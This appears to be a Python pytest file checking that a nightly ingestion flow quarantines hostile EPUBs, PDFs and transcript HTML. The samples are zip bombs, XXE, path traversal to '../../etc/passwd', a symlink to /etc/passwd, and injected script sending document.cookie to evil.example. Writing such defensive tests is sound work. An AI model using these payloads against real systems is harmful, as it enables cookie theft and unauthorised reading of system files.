"""Hostile and malformed EPUB, PDF and transcript HTML through the real nightly flow: the local
library (a folder of books, read in live mode) and committee transcripts (over the faulty origin).

Each hostile file is quarantined with a clear message, none crashes the run or touches the
filesystem outside the archive, and once fixed each loads and its quarantine row is resolved.
"""

from __future__ import annotations

import base64
import json
import os
from datetime import date
from pathlib import Path

import pytest

from tests.faults import books
from tests.faults.harness import Fault, assert_reconciles, duplicates, items_by_state, scenario

pytestmark = pytest.mark.slow

START = date(2026, 3, 1)
API = "https://committees-api.parliament.uk/api/OralEvidence"
LIMITS = {"max_pdf_pages": 50, "max_pdf_stream_bytes": 5 * 1024 * 1024}
LIBRARY = {
    "good.epub": (books.epub, "loaded", None),
    "zip-bomb.epub": (books.zip_bomb_epub, "quarantined", "inflates"),
    "many-entries.epub": (books.many_entries_epub, "quarantined", "3005 zip entries (limit 2000)"),
    "traversal.epub": (books.traversal_epub, "quarantined", "'../../etc/passwd' points outside the book"),
    "xxe.epub": (books.xxe_epub, "quarantined", "external entity declaration (XXE)"),
    "malformed.epub": (books.malformed_epub, "quarantined", "not a readable EPUB/ZIP"),
    "bomb.pdf": (books.pdf_bomb, "quarantined", "refused: Limit reached while decompressing"),
    "huge.pdf": (lambda: books.pdf(60), "quarantined", "refused: 60 pages (limit 50)"),
    "malformed.pdf": (books.malformed_pdf, "quarantined", "unreadable PDF"),
}


def _document(transform):
    """Change the transcript inside a Committees API Document JSON (base64 `data`)."""
    def change(data: bytes) -> bytes:
        payload = json.loads(data)
        payload["data"] = base64.b64encode(transform(base64.b64decode(payload["data"]))).decode()
        return json.dumps(payload).encode()
    return change


def _with_script(html: bytes) -> bytes:
    return (html.replace(b"<body>", b"<body><script>fetch('https://evil.example/'+document.cookie)</script>"
                         b"<style>p{display:none}</style>", 1)
            .replace(b"<p>", b"<p><script>alert('owned')</script>", 3))


COMMITTEES = {  # session id: (fault on its Document/Html response, state, error)
    "2703": (_document(lambda html: books.pdf_bomb()), "quarantined", "a decompression bomb?"),
    "2733": (_document(_with_script), "loaded", None),
    "2734": (_document(lambda html: books.malformed_pdf()), "quarantined", "unreadable PDF"),
}


def _library(folder: Path) -> None:
    folder.mkdir(parents=True)
    for name, (build, _, _) in LIBRARY.items():
        (folder / name).write_bytes(build())
        (folder / (name.rsplit(".", 1)[0] + ".meta.json")).write_bytes(books.sidecar(name))
    os.symlink("/etc/passwd", folder / "passwd.txt")  # a link out of the folder is never read
    (folder / "passwd.meta.json").write_bytes(books.sidecar("passwd"))


def test_hostile_books_and_transcripts_are_quarantined_then_load_once_fixed(tmp_path, origin, monkeypatch,
                                                                            prefect_harness):
    from flows.nightly import nightly

    faults = [Fault(f"{API}/{sid}/Document/Html", "body", change) for sid, (change, _, _) in COMMITTEES.items()]
    night = scenario(tmp_path / "run", origin, ["committees", "library"], start=START, faults=faults,
                     **LIMITS).install(monkeypatch)
    folder = night.settings.data_dir / "library"
    _library(folder)
    outside_before = sorted(p.name for p in tmp_path.iterdir())

    first = nightly()
    assert first["status"] == "completed"
    with night.read() as con:
        counts = assert_reconciles(con, first["run_id"])
        states = items_by_state(con, first["run_id"])
        for name, (_, state, error) in LIBRARY.items():
            assert states[name][0] == state, (name, states[name])
            if error:
                assert error in states[name][2], (name, states[name][2])
        assert "passwd.txt" not in states
        for sid, (_, state, error) in COMMITTEES.items():
            item = next(i for i in states if i.endswith(f"/{sid}"))
            assert states[item][0] == state, (sid, states[item])
            if error:
                assert error in states[item][2]
        scripted = next(i for i in states if i.endswith("/2733"))
        texts = [r[0] for r in con.execute("SELECT text FROM passages WHERE document_id ="
                                           " (SELECT document_id FROM run_items WHERE item_id = ?)", [scripted]).fetchall()]
        assert texts and not any("alert(" in t or "document.cookie" in t or "display:none" in t for t in texts)
        assert not con.execute("SELECT count(*) FROM passages WHERE text LIKE '%root:%'").fetchone()[0]
        quarantined = con.execute("SELECT count(*) FROM quarantine WHERE resolved_at IS NULL AND raw_sha256 IS NOT NULL")
        assert quarantined.fetchone()[0] == counts["quarantined"]  # each keeps its raw bytes for a retry
    assert sorted(p.name for p in tmp_path.iterdir()) == outside_before  # nothing written beside the data
    assert not Path("/tmp/whitehall-owned.txt").exists() and not (tmp_path / "escape.txt").exists()

    # fixed: the books replaced by readable ones, the transcripts served as they should be
    for name in LIBRARY:
        path = folder / name
        path.write_bytes(books.pdf(3) if name.endswith(".pdf") else books.epub(paragraphs=[f"Fixed edition of {name}."]))
    night.transport.active = False
    second = nightly()
    from flows.quarantine import quarantine_retry
    third = quarantine_retry(source="committees", refetch=True)
    with night.read() as con:
        assert_reconciles(con, second["run_id"])
        assert_reconciles(con, third["run_id"])
        assert items_by_state(con, second["run_id"]).keys() >= {n for n, v in LIBRARY.items() if v[1] == "quarantined"}
        assert third["totals"]["loaded"] == sum(v[1] == "quarantined" for v in COMMITTEES.values())
        assert con.execute("SELECT count(*) FROM quarantine WHERE resolved_at IS NULL").fetchone()[0] == 0
        assert duplicates(con) == 0
